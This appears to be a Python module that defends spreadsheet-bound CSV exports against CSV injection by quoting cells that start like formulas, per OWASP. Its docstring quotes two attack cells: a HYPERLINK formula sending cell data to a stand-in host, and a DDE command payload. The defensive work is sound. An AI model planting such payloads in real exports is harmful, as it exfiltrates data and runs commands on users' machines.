"""CSV meant to be opened in a spreadsheet, written so that no cell runs as a formula.

A customer's name, an invoice number or a note comes from outside (an ERP, a portal form, an
email). Written as is into a CSV, a cell such as `=HYPERLINK("http://evil.test?"&A1, "Click")` or
`@SUM(1+1)*cmd|'/c calc'!A0` becomes a live formula when the file is opened in a spreadsheet
("CSV injection"). Following the OWASP recommendation, a text cell that begins with `=`, `+`, `-`,
`@`, a tab or a carriage return (or the full-width `＝＋－＠` some spreadsheets also read as those)
is prefixed with a single quote, which spreadsheets show as text and do not evaluate.

Numbers stay numbers: a cell that is a plain decimal number (`-12.50`, `1200`, `0.5`: an optional
minus, digits, an optional `.` and digits) cannot hold a formula, so it is written unchanged and a
spreadsheet still sums it. Anything else that begins with `-` (`-1+1`, `-A1`) is text and is quoted.

Every report's CSV goes through `spreadsheet_cell` (one cell) or `spreadsheet_writer` (a whole
`csv.writer` whose rows are made safe); the ledger export keeps its re-importable cells unless asked
(`arrears export KIND --spreadsheet-safe`).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

# What makes a spreadsheet read a cell as a formula or a command (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# A plain decimal number: what a spreadsheet reads as a number and never as a formula.
_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


class _Writes(Protocol):
    def write(self, text: str, /) -> Any: ...


def spreadsheet_cell(value: object) -> str:
    """`value` as the text of a CSV cell that a spreadsheet cannot evaluate.

    None is empty; True/False are `true`/`false`; lists are joined by `;`; a text that begins with
    one of FORMULA_STARTS gets a leading `'`, unless it is a plain decimal number (`-12.50` stays a
    number). The quote becomes part of the cell for programs that read the file as data, which is why
    the re-importable ledger export does not do this by default.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list | tuple):
        return spreadsheet_cell(";".join("" if item is None else str(item) for item in value))
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


class SpreadsheetWriter:
    """A `csv.writer` (RFC 4180 quoting; `\\n` line ends unless told) whose every cell goes through
    `spreadsheet_cell` (None: an empty cell).

    Python's writer quotes a cell holding a line end only when that character is in its own
    `lineterminator`: with `\\n` line ends, a carriage return inside a cell (`'\\r=1+1`, a note
    pasted from elsewhere) would be written bare and a spreadsheet would break the row there. A row
    with such a cell is written with every cell quoted instead."""

    def __init__(self, out: _Writes, lineterminator: str = "\n") -> None:
        self._writer = csv.writer(out, lineterminator=lineterminator)
        self._quoting_all = csv.writer(out, lineterminator=lineterminator, quoting=csv.QUOTE_ALL)
        self._bare = tuple(end for end in "\r\n" if end not in lineterminator)

    def writerow(self, row: Iterable[object]) -> None:
        cells = [spreadsheet_cell(value) for value in row]
        if self._bare and any(end in cell for cell in cells for end in self._bare):
            self._quoting_all.writerow(cells)
        else:
            self._writer.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def spreadsheet_writer(out: _Writes, lineterminator: str = "\n") -> SpreadsheetWriter:
    """A CSV writer on `out` for a report meant for spreadsheets: use it for every report's CSV
    (`\r\n` line ends for a download, as RFC 4180 has them)."""
    return SpreadsheetWriter(out, lineterminator)
